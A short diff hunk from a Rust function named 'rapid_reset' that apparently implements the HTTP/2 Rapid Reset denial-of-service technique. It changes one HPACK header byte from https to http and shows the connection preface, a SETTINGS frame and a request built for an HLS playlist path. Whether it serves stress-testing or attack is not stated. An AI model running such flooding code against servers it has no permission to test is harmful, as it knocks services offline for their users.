@@ -221,9 +221,9 @@ async fn rapid_reset(mut stream: TcpStream, done: &AtomicU64) -> std::io::Result
         frame.extend(payload);
         frame
     };
-    // GET and https from the static table, path and authority spelt out (RFC 7541).
+    // GET and http from the static table, path and authority spelt out (RFC 7541).
     let path = format!("{PLAYLIST}?_HLS_msn=1");
-    let fields = [&[0x82, 0x87, 0x04, path.len() as u8], path.as_bytes(), &[0x01, 1, b'x']].concat();
+    let fields = [&[0x82, 0x86, 0x04, path.len() as u8], path.as_bytes(), &[0x01, 1, b'x']].concat();
     stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
     stream.write_all(&frame(4, 0, 0, &[])).await?;
     let mut ignored = vec![0; 16 * 1024];
